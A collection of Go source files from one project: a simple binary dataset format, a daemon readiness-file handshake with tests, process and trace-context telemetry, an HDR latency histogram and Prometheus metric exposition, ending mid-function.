	for i, v := range data {
		binary.LittleEndian.PutUint32(raw[i*4:], math.Float32bits(v))
	}
	return f.add(&Dataset{Name: name, Dtype: Float32, Shape: append([]int(nil), shape...), Raw: raw})
}

// AddInt32 stores int32 data.
func (f *File) AddInt32(name string, shape []int, data []int32) error {
	if err := checkShape(shape, len(data)); err != nil {
		return fmt.Errorf("%w (dataset %q)", err, name)
	}
	raw := make([]byte, len(data)*4)
	for i, v := range data {
		binary.LittleEndian.PutUint32(raw[i*4:], uint32(v))
	}
	return f.add(&Dataset{Name: name, Dtype: Int32, Shape: append([]int(nil), shape...), Raw: raw})
}

// AddUint8 stores byte data.
func (f *File) AddUint8(name string, shape []int, data []uint8) error {
	if err := checkShape(shape, len(data)); err != nil {
		return fmt.Errorf("%w (dataset %q)", err, name)
	}
	return f.add(&Dataset{Name: name, Dtype: Uint8, Shape: append([]int(nil), shape...), Raw: append([]byte(nil), data...)})
}

func checkShape(shape []int, n int) error {
	prod := 1
	for _, s := range shape {
		if s <= 0 {
			return fmt.Errorf("%w: dimension %d", ErrBadShape, s)
		}
		prod *= s
	}
	if prod != n {
		return fmt.Errorf("%w: shape %v implies %d elements, got %d", ErrBadShape, shape, prod, n)
	}
	return nil
}

func (f *File) add(d *Dataset) error {
	if d.Name == "" || len(d.Name) > 65535 {
		return fmt.Errorf("h5lite: invalid dataset name %q", d.Name)
	}
	if _, ok := f.datasets[d.Name]; ok {
		return fmt.Errorf("%w: %q", ErrDupDataset, d.Name)
	}
	f.datasets[d.Name] = d
	return nil
}

// Get returns the named dataset.
func (f *File) Get(name string) (*Dataset, error) {
	d, ok := f.datasets[name]
	if !ok {
		return nil, fmt.Errorf("%w: %q", ErrNoDataset, name)
	}
	return d, nil
}

// Names lists dataset names, sorted.
func (f *File) Names() []string {
	out := make([]string, 0, len(f.datasets))
	for n := range f.datasets {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// Encode serializes the file.
func (f *File) Encode() []byte {
	var buf bytes.Buffer
	buf.Write(magic)
	writeU32 := func(v uint32) {
		var b [4]byte
		binary.LittleEndian.PutUint32(b[:], v)
		buf.Write(b[:])
	}
	writeU32(uint32(len(f.datasets)))
	for _, name := range f.Names() {
		d := f.datasets[name]
		var nl [2]byte
		binary.LittleEndian.PutUint16(nl[:], uint16(len(d.Name)))
		buf.Write(nl[:])
		buf.WriteString(d.Name)
		buf.WriteByte(byte(d.Dtype))
		buf.WriteByte(byte(len(d.Shape)))
		for _, dim := range d.Shape {
			var b [8]byte
			binary.LittleEndian.PutUint64(b[:], uint64(dim))
			buf.Write(b[:])
		}
		buf.Write(d.Raw)
	}
	writeU32(crc32.ChecksumIEEE(buf.Bytes()))
	return buf.Bytes()
}

// WriteTo implements io.WriterTo.
func (f *File) WriteTo(w io.Writer) (int64, error) {
	data := f.Encode()
	n, err := w.Write(data)
	return int64(n), err
}

// Decode parses a serialized file.
func Decode(data []byte) (*File, error) {
	if len(data) < len(magic)+8 {
		return nil, ErrBadMagic
	}
	if !bytes.Equal(data[:len(magic)], magic) {
		return nil, ErrBadMagic
	}
	body, crcBytes := data[:len(data)-4], data[len(data)-4:]
	if crc32.ChecksumIEEE(body) != binary.LittleEndian.Uint32(crcBytes) {
		return nil, fmt.Errorf("%w: checksum mismatch", ErrCorrupt)
	}
	r := bytes.NewReader(body[len(magic):])
	readU32 := func() (uint32, error) {
		var b [4]byte
		if _, err := io.ReadFull(r, b[:]); err != nil {
			return 0, err
		}
		return binary.LittleEndian.Uint32(b[:]), nil
	}
	count, err := readU32()
	if err != nil {
		return nil, fmt.Errorf("%w: truncated header", ErrCorrupt)
	}
	if count > 1<<20 {
		return nil, fmt.Errorf("%w: implausible dataset count %d", ErrCorrupt, count)
	}
	f := NewFile()
	for i := uint32(0); i < count; i++ {
		var nl [2]byte
		if _, err := io.ReadFull(r, nl[:]); err != nil {
			return nil, fmt.Errorf("%w: truncated dataset %d", ErrCorrupt, i)
		}
		nameLen := binary.LittleEndian.Uint16(nl[:])
		nameBytes := make([]byte, nameLen)
		if _, err := io.ReadFull(r, nameBytes); err != nil {
			return nil, fmt.Errorf("%w: truncated name", ErrCorrupt)
		}
		var meta [2]byte
		if _, err := io.ReadFull(r, meta[:]); err != nil {
			return nil, fmt.Errorf("%w: truncated metadata", ErrCorrupt)
		}
		dtype, rank := DType(meta[0]), int(meta[1])
		if dtype.Size() == 0 {
			return nil, fmt.Errorf("%w: bad dtype %d", ErrCorrupt, meta[0])
		}
		shape := make([]int, rank)
		elems := 1
		for j := 0; j < rank; j++ {
			var b [8]byte
			if _, err := io.ReadFull(r, b[:]); err != nil {
				return nil, fmt.Errorf("%w: truncated shape", ErrCorrupt)
			}
			dim := binary.LittleEndian.Uint64(b[:])
			if dim == 0 || dim > 1<<40 {
				return nil, fmt.Errorf("%w: bad dimension %d", ErrCorrupt, dim)
			}
			shape[j] = int(dim)
			elems *= int(dim)
			if elems > 1<<34 {
				return nil, fmt.Errorf("%w: dataset too large", ErrCorrupt)
			}
		}
		payload := make([]byte, elems*dtype.Size())
		if _, err := io.ReadFull(r, payload); err != nil {
			return nil, fmt.Errorf("%w: truncated payload for %q", ErrCorrupt, nameBytes)
		}
		if err := f.add(&Dataset{Name: string(nameBytes), Dtype: dtype, Shape: shape, Raw: payload}); err != nil {
			return nil, fmt.Errorf("%w: %v", ErrCorrupt, err)
		}
	}
	if r.Len() != 0 {
		return nil, fmt.Errorf("%w: %d trailing bytes", ErrCorrupt, r.Len())
	}
	return f, nil
}
