// Package readyfile implements the daemon readiness handshake the
// macro-benchmark harness (and any parallel test driver) relies on:
// each daemon started with -ready-file writes a small JSON document
// once it is actually serving, carrying the bound addresses (which
// matter when listening on ":0") and its PID. The file appears
// atomically — written to a temp name and renamed — so a reader never
// observes a half-written document.
package readyfile

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"rai/internal/clock"
)

// Info is the document a daemon publishes when it is ready to serve.
type Info struct {
	Service string `json:"service"`
	PID     int    `json:"pid"`
	// Addr is the daemon's primary bound address (empty for daemons
	// without a listener of their own, e.g. raiworker).
	Addr string `json:"addr,omitempty"`
	// MetricsAddr is the bound /metrics address, when enabled.
	MetricsAddr string `json:"metrics_addr,omitempty"`
}

// Write publishes info at path atomically: the JSON is written to a
// temporary file in the same directory and renamed into place, so a
// concurrent Read either sees nothing or the complete document.
func Write(path string, info Info) error {
	data, err := json.Marshal(info)
	if err != nil {
		return fmt.Errorf("readyfile: %w", err)
	}
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, ".ready-*")
	if err != nil {
		return fmt.Errorf("readyfile: %w", err)
	}
	if _, err := tmp.Write(append(data, '\n')); err != nil {
		_ = tmp.Close()
		_ = os.Remove(tmp.Name())
		return fmt.Errorf("readyfile: %w", err)
	}
	if err := tmp.Close(); err != nil {
		_ = os.Remove(tmp.Name())
		return fmt.Errorf("readyfile: %w", err)
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		_ = os.Remove(tmp.Name())
		return fmt.Errorf("readyfile: %w", err)
	}
	return nil
}

// Read parses the document at path. A missing file returns the
// underlying fs error so callers can distinguish "not ready yet" from
// "corrupt".
func Read(path string) (Info, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return Info{}, err
	}
	var info Info
	if err := json.Unmarshal(data, &info); err != nil {
		return Info{}, fmt.Errorf("readyfile: parsing %s: %w", path, err)
	}
	return info, nil
}

// Await polls until the document at path exists and parses, the context
// is canceled, or abort is closed (the harness closes it when the child
// process exits early, turning an infinite wait into a crisp error).
// interval <= 0 defaults to 25ms; clk nil uses the wall clock.
func Await(ctx context.Context, clk clock.Clock, path string, interval time.Duration, abort <-chan struct{}) (Info, error) {
	if clk == nil {
		clk = clock.Real{}
	}
	if interval <= 0 {
		interval = 25 * time.Millisecond
	}
	for {
		info, err := Read(path)
		if err == nil {
			return info, nil
		}
		if !os.IsNotExist(err) {
			return Info{}, err
		}
		select {
		case <-ctx.Done():
			return Info{}, fmt.Errorf("readyfile: waiting for %s: %w", path, ctx.Err())
		case <-abort:
			return Info{}, fmt.Errorf("readyfile: process exited before %s appeared", path)
		case <-clk.After(interval):
		}
	}
}
