package readyfile

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"time"
)

func TestWriteReadRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "svc.ready")
	want := Info{Service: "raifs", PID: 1234, Addr: "127.0.0.1:41459", MetricsAddr: "127.0.0.1:9000"}
	if err := Write(path, want); err != nil {
		t.Fatal(err)
	}
	got, err := Read(path)
	if err != nil {
		t.Fatal(err)
	}
	if got != want {
		t.Fatalf("got %+v, want %+v", got, want)
	}
	// No temp litter left behind.
	entries, err := os.ReadDir(filepath.Dir(path))
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 {
		t.Fatalf("directory holds %d entries, want just the ready file", len(entries))
	}
}

func TestReadMissingAndCorrupt(t *testing.T) {
	dir := t.TempDir()
	if _, err := Read(filepath.Join(dir, "absent")); !os.IsNotExist(err) {
		t.Fatalf("missing file error = %v, want IsNotExist", err)
	}
	bad := filepath.Join(dir, "bad")
	os.WriteFile(bad, []byte("{half a doc"), 0o644)
	if _, err := Read(bad); err == nil || os.IsNotExist(err) {
		t.Fatalf("corrupt file error = %v", err)
	}
}

func TestAwaitSeesLateFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "late.ready")
	go func() {
		time.Sleep(50 * time.Millisecond)
		Write(path, Info{Service: "raidb", PID: 1})
	}()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	info, err := Await(ctx, nil, path, time.Millisecond, nil)
	if err != nil {
		t.Fatal(err)
	}
	if info.Service != "raidb" {
		t.Fatalf("info = %+v", info)
	}
}

func TestAwaitAbortsOnProcessExit(t *testing.T) {
	abort := make(chan struct{})
	close(abort)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	_, err := Await(ctx, nil, filepath.Join(t.TempDir(), "never"), time.Millisecond, abort)
	if err == nil {
		t.Fatal("await survived a closed abort channel")
	}
}

func TestAwaitHonorsContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := Await(ctx, nil, filepath.Join(t.TempDir(), "never"), time.Millisecond, nil)
	if err == nil {
		t.Fatal("await survived a canceled context")
	}
}
