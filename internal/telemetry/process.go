package telemetry

import (
	"os"
	"runtime"
	"strconv"
	"strings"
)

// RegisterProcessMetrics publishes the runtime-health gauges the
// macro-benchmark harness samples from every daemon while under load:
//
//	rai_process_goroutines        current goroutine count
//	rai_process_heap_bytes        bytes of allocated heap objects
//	rai_process_gc_cycles_total   completed GC cycles
//	rai_process_resident_bytes    resident set size (0 where /proc is absent)
//
// All four are GaugeFuncs, so each scrape reads the live value; nothing
// ticks in the background and there is no goroutine to shut down.
func RegisterProcessMetrics(r *Registry) {
	if r == nil {
		return
	}
	r.GaugeFunc("rai_process_goroutines",
		"number of live goroutines",
		func() float64 { return float64(runtime.NumGoroutine()) })
	r.GaugeFunc("rai_process_heap_bytes",
		"bytes of allocated heap objects",
		func() float64 {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			return float64(m.HeapAlloc)
		})
	r.GaugeFunc("rai_process_gc_cycles_total",
		"completed GC cycles since process start",
		func() float64 {
			var m runtime.MemStats
			runtime.ReadMemStats(&m)
			return float64(m.NumGC)
		})
	r.GaugeFunc("rai_process_resident_bytes",
		"resident set size in bytes; 0 where /proc/self/statm is unavailable",
		func() float64 { return float64(residentBytes()) })
}

// residentBytes reads the RSS from /proc/self/statm (second field, in
// pages). Platforms without procfs report 0 rather than erroring: the
// bench report treats 0 as "not measured".
func residentBytes() uint64 {
	data, err := os.ReadFile("/proc/self/statm")
	if err != nil {
		return 0
	}
	fields := strings.Fields(string(data))
	if len(fields) < 2 {
		return 0
	}
	pages, err := strconv.ParseUint(fields[1], 10, 64)
	if err != nil {
		return 0
	}
	return pages * uint64(os.Getpagesize())
}
