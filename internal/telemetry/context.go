package telemetry

import (
	"context"
	"net/http"
)

// Trace context rides on context.Context so any layer — the core job
// protocol, the storage HTTP clients, the event logger — can stamp its
// output with the IDs of the trace it is working for without threading
// them through every signature. The broker job protocol carries the
// same IDs inside JobRequest; the HTTP headers below carry them across
// the objstore/docstore hops.

// SpanContext is the portable identity of a span: enough to continue
// its trace in another process. The zero value means "no trace".
type SpanContext struct {
	TraceID string
	SpanID  string
	// Sampled carries the head-sampling verdict made at the trace root,
	// so downstream processes export (or suppress) their spans for this
	// trace consistently with the originator. DecisionUnknown when the
	// originator did not sample.
	Sampled Decision
}

// Valid reports whether the context names a trace.
func (sc SpanContext) Valid() bool { return sc.TraceID != "" }

type spanCtxKey struct{}
type jobCtxKey struct{}
type sampleCtxKey struct{}

// ContextWithSpan returns ctx carrying s's identity. A nil or unstarted
// span leaves ctx unchanged, so callers can thread optional telemetry
// without branching.
func ContextWithSpan(ctx context.Context, s *Span) context.Context {
	if s == nil {
		return ctx
	}
	return ContextWithSpanContext(ctx, SpanContext{TraceID: s.TraceID(), SpanID: s.SpanID()})
}

// ContextWithSpanContext returns ctx carrying sc. An invalid sc leaves
// ctx unchanged.
func ContextWithSpanContext(ctx context.Context, sc SpanContext) context.Context {
	if !sc.Valid() {
		return ctx
	}
	return context.WithValue(ctx, spanCtxKey{}, sc)
}

// SpanContextFrom extracts the current trace identity (zero value when
// ctx carries none).
func SpanContextFrom(ctx context.Context) SpanContext {
	if ctx == nil {
		return SpanContext{}
	}
	sc, _ := ctx.Value(spanCtxKey{}).(SpanContext)
	return sc
}

// ContextWithSampling returns ctx carrying the trace's sampling
// verdict; InjectHTTP forwards it so storage servers suppress their
// child spans for dropped traces. Unknown decisions leave ctx
// unchanged.
func ContextWithSampling(ctx context.Context, d Decision) context.Context {
	if d == DecisionUnknown {
		return ctx
	}
	return context.WithValue(ctx, sampleCtxKey{}, d)
}

// SamplingFrom extracts the sampling verdict (DecisionUnknown when ctx
// carries none).
func SamplingFrom(ctx context.Context) Decision {
	if ctx == nil {
		return DecisionUnknown
	}
	d, _ := ctx.Value(sampleCtxKey{}).(Decision)
	return d
}

// ContextWithJobID returns ctx tagged with the submission being worked
// on; the logger stamps it onto every event so a job's output can be
// reassembled across services.
func ContextWithJobID(ctx context.Context, jobID string) context.Context {
	if jobID == "" {
		return ctx
	}
	return context.WithValue(ctx, jobCtxKey{}, jobID)
}

// JobIDFrom extracts the job ID ("" when ctx carries none).
func JobIDFrom(ctx context.Context) string {
	if ctx == nil {
		return ""
	}
	id, _ := ctx.Value(jobCtxKey{}).(string)
	return id
}

// HTTP propagation headers. The storage clients set them per request;
// the storage servers open child spans from them, which is how upload,
// download, and metadata writes appear inside a job's span tree.
const (
	HeaderTraceID    = "X-RAI-Trace-ID"
	HeaderParentSpan = "X-RAI-Parent-Span"
	HeaderJobID      = "X-RAI-Job-ID"
	// HeaderSampled carries the head-sampling verdict ("1" keep, "0"
	// drop) so servers agree with the trace originator.
	HeaderSampled = "X-RAI-Sampled"
)

// InjectHTTP copies ctx's trace identity and job ID into h. No-op when
// ctx carries no trace.
func InjectHTTP(ctx context.Context, h http.Header) {
	if sc := SpanContextFrom(ctx); sc.Valid() {
		h.Set(HeaderTraceID, sc.TraceID)
		h.Set(HeaderParentSpan, sc.SpanID)
	}
	if id := JobIDFrom(ctx); id != "" {
		h.Set(HeaderJobID, id)
	}
	if d := SamplingFrom(ctx); d != DecisionUnknown {
		h.Set(HeaderSampled, d.String())
	}
}

// ExtractHTTP reads the propagation headers back out of an incoming
// request's header set.
func ExtractHTTP(h http.Header) (SpanContext, string) {
	return SpanContext{
		TraceID: h.Get(HeaderTraceID),
		SpanID:  h.Get(HeaderParentSpan),
		Sampled: ParseDecision(h.Get(HeaderSampled)),
	}, h.Get(HeaderJobID)
}
