package telemetry

// HDR-style log-linear latency histogram. The fixed-bucket Histogram in
// registry.go is right for steady-state daemon exposition, but the
// macro-benchmark harness needs tail quantiles (p99, p999) over ranges
// spanning microseconds to minutes with bounded relative error, plus
// snapshots that merge associatively so per-student recordings can be
// combined into one course-wide distribution. This is the classic
// HdrHistogram bucketing: values are indexed by a power-of-two exponent
// (the "bucket") subdivided into linear sub-buckets, giving a constant
// relative error of 1/hdrSubHalf (~3.1%) at every magnitude.

import (
	"fmt"
	"io"
	"math"
	"math/bits"
	"sort"
	"sync/atomic"
	"time"
)

const (
	// hdrSubBits fixes the sub-bucket resolution: 1<<hdrSubBits linear
	// slots per power of two, so quantile error is ≤ 2^-(hdrSubBits-1).
	hdrSubBits  = 6
	hdrSubCount = 1 << hdrSubBits
	hdrSubHalf  = hdrSubCount / 2
	// hdrBuckets bounds the dynamic range: the top bucket's upper edge is
	// hdrSubCount << (hdrBuckets-1) ticks ≈ 2^45 µs ≈ 13 months. Values
	// above clamp into the last slot.
	hdrBuckets = 40
	hdrSlots   = (hdrBuckets + 1) * hdrSubHalf
	// hdrTick is the recording unit: one microsecond, expressed in
	// seconds (Observe takes seconds to match Histogram.Observe).
	hdrTick = 1e-6
)

// HDRHistogram is a concurrency-safe log-linear histogram of seconds.
// The zero value is NOT usable; use NewHDRHistogram. All methods are
// nil-receiver safe so disabled recorders cost one pointer test.
type HDRHistogram struct {
	counts  [hdrSlots]atomic.Uint64
	count   atomic.Uint64
	sumBits atomic.Uint64 // float64 bits of the sum in seconds
	minBits atomic.Uint64 // float64 bits of the smallest observed value
	maxBits atomic.Uint64 // float64 bits of the largest observed value
	// exemplars holds one (value, trace ID) pair per power-of-two
	// exposition edge, latest observation wins — the bounded
	// metrics→trace link: a scrape of the histogram names a concrete
	// trace to pull up for every populated latency band.
	exemplars [hdrBuckets]atomic.Pointer[Exemplar]
}

// Exemplar links one observed value to the trace that produced it.
type Exemplar struct {
	Value   float64 `json:"value"`
	TraceID string  `json:"trace_id"`
}

// hdrEdgeIndex maps a tick count onto its power-of-two exposition edge
// (the `le` bucket WritePrometheus emits), clamping overflow into the
// last finite edge.
func hdrEdgeIndex(ticks uint64) int {
	b := bits.Len64(ticks|(hdrSubCount-1)) - hdrSubBits
	if b >= hdrBuckets {
		return hdrBuckets - 1
	}
	return b
}

// NewHDRHistogram returns an empty histogram.
func NewHDRHistogram() *HDRHistogram {
	h := &HDRHistogram{}
	h.minBits.Store(math.Float64bits(math.Inf(1)))
	return h
}

// hdrIndex maps a tick count onto its slot (HdrHistogram indexing).
func hdrIndex(v uint64) int {
	bucket := bits.Len64(v|(hdrSubCount-1)) - hdrSubBits
	if bucket >= hdrBuckets {
		return hdrSlots - 1
	}
	sub := v >> uint(bucket)
	return (bucket+1)*hdrSubHalf + int(sub) - hdrSubHalf
}

// hdrSlotEdges returns a slot's value range [lo, hi) in ticks.
func hdrSlotEdges(idx int) (lo, hi uint64) {
	bucket := idx/hdrSubHalf - 1
	sub := uint64(idx%hdrSubHalf + hdrSubHalf)
	if idx < hdrSubCount {
		bucket, sub = 0, uint64(idx)
	}
	width := uint64(1) << uint(bucket)
	return sub << uint(bucket), sub<<uint(bucket) + width
}

// Observe records one sample, given in seconds. Negative values record
// as zero; values beyond the trackable range clamp into the top slot.
func (h *HDRHistogram) Observe(seconds float64) {
	if h == nil {
		return
	}
	var ticks uint64
	if seconds > 0 {
		ticks = uint64(seconds / hdrTick)
	} else {
		seconds = 0
	}
	h.counts[hdrIndex(ticks)].Add(1)
	h.count.Add(1)
	addFloat(&h.sumBits, seconds)
	for {
		old := h.minBits.Load()
		if seconds >= math.Float64frombits(old) || h.minBits.CompareAndSwap(old, math.Float64bits(seconds)) {
			break
		}
	}
	for {
		old := h.maxBits.Load()
		if seconds <= math.Float64frombits(old) || h.maxBits.CompareAndSwap(old, math.Float64bits(seconds)) {
			break
		}
	}
}

// ObserveDuration records a duration sample.
func (h *HDRHistogram) ObserveDuration(d time.Duration) { h.Observe(d.Seconds()) }

// ObserveExemplar records a sample and, when traceID is non-empty,
// stores it as the exemplar for the sample's exposition bucket
// (latest wins; at most one exemplar per bucket, so the set is bounded
// by the bucket count). Callers should only pass trace IDs of sampled
// traces — an exemplar pointing at a dropped trace is a dead link.
func (h *HDRHistogram) ObserveExemplar(seconds float64, traceID string) {
	if h == nil {
		return
	}
	h.Observe(seconds)
	if traceID == "" {
		return
	}
	var ticks uint64
	if seconds > 0 {
		ticks = uint64(seconds / hdrTick)
	} else {
		seconds = 0
	}
	h.exemplars[hdrEdgeIndex(ticks)].Store(&Exemplar{Value: seconds, TraceID: traceID})
}

// Count reports the number of recorded samples.
func (h *HDRHistogram) Count() uint64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// Snapshot captures a point-in-time copy. Concurrent Observes during
// the copy may straddle the count/sum/slot reads; each sample is still
// either fully visible in a later snapshot, so monitoring loops that
// diff successive snapshots never lose data.
func (h *HDRHistogram) Snapshot() *HDRSnapshot {
	if h == nil {
		return nil
	}
	s := &HDRSnapshot{
		Counts: make([]uint64, hdrSlots),
		Sum:    math.Float64frombits(h.sumBits.Load()),
	}
	var total uint64
	for i := range h.counts {
		c := h.counts[i].Load()
		s.Counts[i] = c
		total += c
	}
	// Derive the count from the slots so quantile ranks are consistent
	// with the copied buckets even mid-Observe.
	s.Count = total
	if min := math.Float64frombits(h.minBits.Load()); !math.IsInf(min, 1) {
		s.Min = min
	}
	s.Max = math.Float64frombits(h.maxBits.Load())
	for edge := range h.exemplars {
		if ex := h.exemplars[edge].Load(); ex != nil {
			s.Exemplars = append(s.Exemplars, BucketExemplar{Edge: edge, Value: ex.Value, TraceID: ex.TraceID})
		}
	}
	return s
}

// HDRSnapshot is an immutable, mergeable view of an HDRHistogram. The
// exported fields serialize to JSON for offline merging.
type HDRSnapshot struct {
	Counts []uint64 `json:"counts"`
	Count  uint64   `json:"count"`
	Sum    float64  `json:"sum"`
	Min    float64  `json:"min"`
	Max    float64  `json:"max"`
	// Exemplars are the per-edge trace links, sorted by Edge.
	Exemplars []BucketExemplar `json:"exemplars,omitempty"`
}

// BucketExemplar is one exposition bucket's trace link.
type BucketExemplar struct {
	Edge    int     `json:"edge"` // power-of-two exposition edge index
	Value   float64 `json:"value"`
	TraceID string  `json:"trace_id"`
}

// exemplarAt returns the snapshot's exemplar for an edge, nil if none.
func (s *HDRSnapshot) exemplarAt(edge int) *BucketExemplar {
	for i := range s.Exemplars {
		if s.Exemplars[i].Edge == edge {
			return &s.Exemplars[i]
		}
	}
	return nil
}

// Merge folds other into s. Merging is commutative and associative:
// (a∪b)∪c and a∪(b∪c) yield identical snapshots. A nil or empty other
// is a no-op.
func (s *HDRSnapshot) Merge(other *HDRSnapshot) error {
	if other == nil || other.Count == 0 {
		return nil
	}
	if len(s.Counts) != len(other.Counts) {
		return fmt.Errorf("telemetry: merging HDR snapshots with %d and %d slots", len(s.Counts), len(other.Counts))
	}
	for i, c := range other.Counts {
		s.Counts[i] += c
	}
	if s.Count == 0 || other.Min < s.Min {
		s.Min = other.Min
	}
	if other.Max > s.Max {
		s.Max = other.Max
	}
	s.Count += other.Count
	s.Sum += other.Sum
	// Exemplar merge keeps the larger value per edge: max is commutative
	// and associative, preserving the snapshot-merge algebra.
	for _, ex := range other.Exemplars {
		if mine := s.exemplarAt(ex.Edge); mine == nil {
			s.Exemplars = append(s.Exemplars, ex)
		} else if ex.Value > mine.Value {
			*mine = ex
		}
	}
	sort.Slice(s.Exemplars, func(i, j int) bool { return s.Exemplars[i].Edge < s.Exemplars[j].Edge })
	return nil
}

// Quantile estimates the q-quantile (q in [0,1]) in seconds: the upper
// edge of the slot holding the sample of that rank, clamped to the
// recorded Max so p100 is exact. Returns 0 on an empty snapshot.
func (s *HDRSnapshot) Quantile(q float64) float64 {
	if s == nil || s.Count == 0 {
		return 0
	}
	if q < 0 {
		q = 0
	}
	if q > 1 {
		q = 1
	}
	rank := uint64(math.Ceil(q * float64(s.Count)))
	if rank == 0 {
		rank = 1
	}
	var cum uint64
	for i, c := range s.Counts {
		cum += c
		if cum >= rank {
			_, hi := hdrSlotEdges(i)
			v := float64(hi) * hdrTick
			if v > s.Max && s.Max > 0 {
				v = s.Max
			}
			return v
		}
	}
	return s.Max
}

// Mean reports the arithmetic mean in seconds.
func (s *HDRSnapshot) Mean() float64 {
	if s == nil || s.Count == 0 {
		return 0
	}
	return s.Sum / float64(s.Count)
}

// WritePrometheus renders the snapshot as one Prometheus histogram
// family: cumulative `le` buckets at every power-of-two edge that is
// populated (plus one empty leading edge and the mandatory +Inf), then
// _sum and _count. labels apply to every series. Buckets holding an
// exemplar carry it as an OpenMetrics-style suffix:
//
//	name_bucket{le="0.065536"} 12 # {trace_id="abc"} 0.041
func (s *HDRSnapshot) WritePrometheus(w io.Writer, name string, labels ...Label) error {
	rendered := renderLabels(labels)
	// Fold slots into power-of-two edges: edge b covers ticks
	// < hdrSubCount<<b, i.e. slots below (b+2)*hdrSubHalf.
	var cum uint64
	maxEdge := hdrMaxPopulatedEdge(s.Counts)
	slot := 0
	for b := 0; b <= maxEdge; b++ {
		limit := (b + 2) * hdrSubHalf // first slot of the next edge
		if b == 0 {
			limit = hdrSubCount
		}
		for ; slot < limit && slot < len(s.Counts); slot++ {
			cum += s.Counts[slot]
		}
		le := float64(uint64(hdrSubCount)<<uint(b)) * hdrTick
		if _, err := fmt.Fprintf(w, "%s_bucket{%s} %d%s\n", name, withLE(rendered, formatFloat(le)), cum, exemplarSuffix(s.exemplarAt(b))); err != nil {
			return err
		}
	}
	for ; slot < len(s.Counts); slot++ {
		cum += s.Counts[slot]
	}
	// Exemplars above the last rendered edge (clamped overflow) ride the
	// +Inf bucket; keep the largest.
	var inf *BucketExemplar
	for i := range s.Exemplars {
		if ex := &s.Exemplars[i]; ex.Edge > maxEdge && (inf == nil || ex.Value > inf.Value) {
			inf = ex
		}
	}
	if _, err := fmt.Fprintf(w, "%s_bucket{%s} %d%s\n", name, withLE(rendered, "+Inf"), cum, exemplarSuffix(inf)); err != nil {
		return err
	}
	if _, err := fmt.Fprintf(w, "%s_sum%s %s\n", name, braced(rendered), formatFloat(s.Sum)); err != nil {
		return err
	}
	_, err := fmt.Fprintf(w, "%s_count%s %d\n", name, braced(rendered), s.Count)
	return err
}

// exemplarSuffix renders the OpenMetrics exemplar tail for a bucket
// line ("" when the bucket has none).
func exemplarSuffix(ex *BucketExemplar) string {
	if ex == nil || ex.TraceID == "" {
		return ""
	}
	return fmt.Sprintf(` # {trace_id="%s"} %s`, escapeLabel(ex.TraceID), formatFloat(ex.Value))
}

// hdrMaxPopulatedEdge returns the highest power-of-two edge index that
// still has samples at or below it (minimum 0 so at least one finite
// bucket is always emitted).
func hdrMaxPopulatedEdge(counts []uint64) int {
	last := 0
	for i, c := range counts {
		if c == 0 {
			continue
		}
		b := i/hdrSubHalf - 1
		if i < hdrSubCount {
			b = 0
		}
		if b > last {
			last = b
		}
	}
	return last
}
