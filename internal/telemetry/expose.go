package telemetry

import (
	"bufio"
	"fmt"
	"io"
	"math"
	"net"
	"net/http"
	"sort"
	"strconv"
	"strings"
)

// WritePrometheus renders every registered family in Prometheus text
// exposition format (version 0.0.4), families and series in sorted
// order so output is stable for golden tests and diffing.
func (r *Registry) WritePrometheus(w io.Writer) error {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	names := make([]string, 0, len(r.families)+len(r.hdrs))
	for name := range r.families {
		names = append(names, name)
	}
	for name := range r.hdrs {
		names = append(names, name)
	}
	sort.Strings(names)
	fams := make([]*family, len(names))
	hfams := make([]*hdrFamily, len(names))
	for i, name := range names {
		fams[i] = r.families[name]
		hfams[i] = r.hdrs[name]
	}
	r.mu.Unlock()

	bw := bufio.NewWriter(w)
	for i := range names {
		if hf := hfams[i]; hf != nil {
			writeHDRFamily(bw, hf)
			continue
		}
		f := fams[i]
		if f.help != "" {
			fmt.Fprintf(bw, "# HELP %s %s\n", f.name, strings.ReplaceAll(f.help, "\n", " "))
		}
		fmt.Fprintf(bw, "# TYPE %s %s\n", f.name, f.kind)
		f.mu.Lock()
		keys := make([]string, 0, len(f.series))
		for k := range f.series {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			writeSeries(bw, f, f.series[k])
		}
		f.mu.Unlock()
	}
	return bw.Flush()
}

func writeHDRFamily(w io.Writer, hf *hdrFamily) {
	if hf.help != "" {
		fmt.Fprintf(w, "# HELP %s %s\n", hf.name, strings.ReplaceAll(hf.help, "\n", " "))
	}
	fmt.Fprintf(w, "# TYPE %s histogram\n", hf.name)
	hf.mu.Lock()
	keys := make([]string, 0, len(hf.series))
	for k := range hf.series {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	sers := make([]*hdrSeries, len(keys))
	for i, k := range keys {
		sers[i] = hf.series[k]
	}
	hf.mu.Unlock()
	for _, s := range sers {
		_ = s.h.Snapshot().WritePrometheus(w, hf.name, s.labels...)
	}
}

func writeSeries(w io.Writer, f *family, s *series) {
	switch f.kind {
	case kindHistogram:
		var cum uint64
		for i, le := range f.buckets {
			cum += s.counts[i].Load()
			fmt.Fprintf(w, "%s_bucket{%s} %d\n", f.name, withLE(s.labels, formatFloat(le)), cum)
		}
		cum += s.counts[len(f.buckets)].Load()
		fmt.Fprintf(w, "%s_bucket{%s} %d\n", f.name, withLE(s.labels, "+Inf"), cum)
		fmt.Fprintf(w, "%s_sum%s %s\n", f.name, braced(s.labels), formatFloat(math.Float64frombits(s.sumBits.Load())))
		fmt.Fprintf(w, "%s_count%s %d\n", f.name, braced(s.labels), s.count.Load())
	default:
		v := math.Float64frombits(s.bits.Load())
		if s.fn != nil {
			v = s.fn()
		}
		fmt.Fprintf(w, "%s%s %s\n", f.name, braced(s.labels), formatFloat(v))
	}
}

func braced(labels string) string {
